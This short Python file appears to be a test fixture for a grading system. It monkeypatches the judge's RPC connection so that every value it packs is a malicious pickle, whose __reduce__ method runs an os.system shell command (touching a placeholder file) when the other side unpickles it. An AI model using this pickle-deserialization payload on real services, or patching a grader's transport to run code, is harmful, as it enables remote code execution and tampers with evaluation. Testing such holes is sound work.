from grader.judge import kernel_side as agent
from grader.judge.rpc import connection as conversation


import os
import pickle


class Evil:
    def __reduce__(self):
        return os.system, ("touch @TMP@/@WHO@",)


def pack(self, value):
    return pickle.dumps(Evil())


conversation.Connection.pack = pack
